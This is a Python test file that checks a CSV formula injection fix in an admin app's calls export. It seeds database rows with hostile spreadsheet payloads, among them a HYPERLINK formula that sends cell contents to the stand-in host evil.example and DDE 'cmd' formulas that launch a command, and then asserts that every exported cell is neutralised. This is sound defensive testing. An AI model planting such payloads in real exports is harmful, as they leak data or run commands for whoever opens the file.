"""Finding 8: CSV formula injection. Every text cell of every export is neutralised, not only the summary.

The download test goes through the real export and the HTTP download route only (no import of the fix's
helper), so it fails on the code before the fixes on the behaviour itself: the cells that went out raw."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import sqlalchemy as sa
from starlette.testclient import TestClient

from tests.unit.factories import make_staff, open_session
from voxanne_admin import db
from voxanne_admin.api.app import build_api
from voxanne_admin.calls import export_flow, exports
from voxanne_admin.calls.filters import CallFilter

NOW = datetime.now(UTC)
PAYLOADS = {
    "organization": "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
    "agent": "+cmd|' /C calc'!A0",
    "ended_reason": "-2+3+cmd|' /C calc'!A0",
    "recording_url": "@SUM(1+1)*cmd|' /C calc'!A0",
    "summary": "=1+1",
}
# What a spreadsheet reads as a formula (OWASP's CSV-injection list), and a plain number (may start with - or +).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def test_every_text_cell_of_the_calls_export_is_neutralised_when_downloaded(clean_db):
    with db.get_engine().begin() as conn:
        org = conn.execute(sa.text(
            "insert into organizations (name, slug, country, timezone, status, created_at, updated_at) "
            "values (:n, 'evil', 'US', 'America/New_York', 'active', now(), now()) returning id"),
            {"n": PAYLOADS["organization"]}).scalar_one()
        agent = conn.execute(sa.text(
            "insert into agents (org_id, role, name, system_prompt, first_message, voice_provider, voice_id, "
            "model_provider, model_name, temperature, max_tokens, max_duration_s, tools, version, sync_status, "
            "updated_at) values (:o, 'inbound', :n, 'p', '', 'v', 'v', 'm', 'm', 0.5, 250, 600, '[]', 1, 'never', "
            "now()) returning id"), {"o": org, "n": PAYLOADS["agent"]}).scalar_one()
        conn.execute(sa.text(
            "insert into calls (vapi_call_id, org_id, agent_id, is_test, direction, status, status_rank, "
            "ended_reason, customer_number, started_at, ended_at, duration_s, cost, summary, recording_url, "
            "report_received, created_at, updated_at) values ('=vapi', :o, :a, false, 'inbound', 'ended', 5, :r, "
            "'+15550100123', now(), now(), -3, 0.05, :s, :u, true, now(), now())"),
            {"o": org, "a": agent, "r": PAYLOADS["ended_reason"], "s": PAYLOADS["summary"],
             "u": PAYLOADS["recording_url"]})
    flt = CallFilter(org_ids=[org])
    with db.transaction() as session:
        staff = make_staff(session, role="viewer")
        cookie = open_session(session, staff)
        export = exports.start_export(session, flt=flt, staff_id=staff.id, role="viewer")
    export_flow.export_csv(flt=flt, path=export.path, token=export.token, role="viewer")

    with TestClient(build_api()) as client:
        client.cookies.set("vx_session", cookie)
        response = client.get(f"/api/calls/exports/{export.token}")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text)))
    body = dict(zip(rows[0], rows[1], strict=True))
    raw = [column for column, payload in PAYLOADS.items() if body[column] != "'" + payload]
    assert raw == [], f"cells that went out unneutralised: {raw}"
    assert body["vapi_call_id"] == "'=vapi"
    # No text cell of the file starts with a formula trigger; numbers stay numbers.
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS) or NUMBER.fullmatch(cell), cell
    assert body["duration_s"] == "-3.0"


def test_neutralise_leaves_plain_text_and_numbers_alone():
    from voxanne_admin.privacy import csvsafe

    assert csvsafe.neutralise("Main Street Clinic") == "Main Street Clinic"
    assert csvsafe.neutralise("-12.5") == "-12.5"
    assert csvsafe.neutralise(42) == 42
    assert csvsafe.neutralise("\t=1") == "'\t=1"
    assert csvsafe.neutralise("\r=1") == "'\r=1"
